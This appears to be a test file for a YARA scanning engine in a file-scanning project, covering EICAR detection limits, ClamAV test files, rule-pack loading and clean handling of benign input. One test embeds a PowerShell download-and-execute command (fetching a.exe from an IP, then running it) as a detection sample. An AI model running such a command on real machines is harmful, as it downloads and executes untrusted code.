import tap from 'tap'
import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { createYaraEngine } from '../../src/scan/yara-engine.ts'
import { engineCompliance } from './engine-compliance.ts'
import { CLAMAV_TESTFILES, PROJECT_RULES, REVERSINGLABS_RULES, eicar, input, noClamavTestfiles, noYara, silentLogger } from './yara-helpers.ts'

tap.test('YARA passes the engine compliance test', { skip: noYara }, async t => {
  engineCompliance(t, {
    create: () => createYaraEngine({ rulesDirs: [PROJECT_RULES], timeoutMs: 30_000, tmpDir: t.testdir({}), logger: silentLogger }),
    detected: input(eicar()),
    clean: input('just some text\n')
  })
})

tap.test('project rules', { skip: noYara }, async t => {
  const tmpDir = t.testdir({})
  const engine = createYaraEngine({ rulesDirs: [PROJECT_RULES], timeoutMs: 30_000, tmpDir, logger: silentLogger })
  await engine.start()
  t.teardown(async () => { await engine.stop() })

  t.test('identity', async st => {
    st.equal(engine.name, 'YARA')
    st.match(engine.version, /^\d+\.\d+\.\d+/)
    st.match(engine.signatureDate, /^20\d{6}$/)
    st.same(engine.kinds, ['file'])
    st.equal(engine.ruleStats?.skippedFiles.length, 0)
    st.ok((engine.ruleStats?.rules ?? 0) >= 8)
  })

  t.test('EICAR: exact string, trailing whitespace allowed, nothing else', async st => {
    const hit = await engine.scan(input(eicar()))
    st.same(hit, { engine: 'YARA', engineVersion: engine.version, engineUpdate: engine.signatureDate, category: 'malicious', result: 'EICAR_Test_File', method: 'blacklist' })
    st.equal((await engine.scan(input(eicar() + ' \t\r\n\x1a'))).result, 'EICAR_Test_File', 'standard trailing whitespace')
    st.equal((await engine.scan(input(eicar() + ' '.repeat(60)))).category, 'malicious', '128 bytes in all')
    st.equal((await engine.scan(input(eicar() + ' '.repeat(61)))).category, 'undetected', '129 bytes is over the limit')
    st.equal((await engine.scan(input(eicar() + 'abc'))).category, 'undetected', 'trailing non-whitespace')
    st.equal((await engine.scan(input('X' + eicar()))).category, 'undetected', 'not at offset 0')
    st.equal((await engine.scan(input(eicar().slice(0, 67)))).category, 'undetected', 'one byte short')
  })

  t.test('benign bytes are undetected', async st => {
    for (const bytes of [new Uint8Array(), Buffer.from('hello world\n'), readFileSync('/bin/ls'), new Uint8Array(1 << 20)]) {
      const r = await engine.scan(input(bytes))
      st.equal(r.category, 'undetected')
      st.equal(r.result, '')
    }
  })

  t.test('PowerShell download cradle is suspicious', async st => {
    const script = 'powershell -nop -c "(New-Object Net.WebClient).DownloadFile(\'http://203.0.113.9/a.exe\',\'a.exe\'); Start-Process a.exe"\r\n'
    st.same(await engine.scan(input(script)), { ...await engine.scan(input('')), category: 'suspicious', result: 'PowerShell_Download_Execute_Cradle' })
    st.equal((await engine.scan(input('powershell Get-ChildItem\n'))).category, 'undetected', 'PowerShell alone is fine')
  })

  t.test('every ClamAV test file is detected', { skip: noClamavTestfiles }, async st => {
    const files = readdirSync(CLAMAV_TESTFILES).toSorted()
    st.ok(files.length >= 40, `${files.length} test files`)
    for (const name of files) {
      const r = await engine.scan(input(readFileSync(join(CLAMAV_TESTFILES, name))))
      st.equal(r.category, 'malicious', name)
      st.match(r.result, /^ClamAV_TestFile_/, `${name} -> ${r.result}`)
    }
  })

  t.test('sample temp files are always removed', async st => {
    await engine.scan(input(eicar()))
    st.same(readdirSync(tmpDir).filter(f => f.startsWith('sample-')), [])
  })
})

tap.test('the ReversingLabs pack loads next to the project rules', { skip: noYara }, async t => {
  const engine = createYaraEngine({ rulesDirs: [PROJECT_RULES, REVERSINGLABS_RULES], timeoutMs: 30_000, tmpDir: t.testdir({}), logger: silentLogger })
  await engine.start()
  t.teardown(async () => { await engine.stop() })
  const stats = engine.ruleStats
  const skippedRules = stats?.skippedFiles.reduce((n, f) => n + f.rules, 0) ?? 0
  t.comment(`compiled ${stats?.files} files / ${stats?.rules} rules; skipped ${stats?.skippedFiles.length} files / ${skippedRules} rules`)
  for (const s of stats?.skippedFiles ?? []) t.comment(`skipped ${s.path}: ${s.error.split('\n')[0]}`)
  t.ok((stats?.files ?? 0) >= 274, 'the 274 ReversingLabs files plus ours compile with yara 4.2.3')
  t.equal((await engine.scan(input(eicar()))).result, 'EICAR_Test_File', 'project rules come first')
  t.equal((await engine.scan(input(readFileSync('/bin/ls')))).category, 'undetected')
})
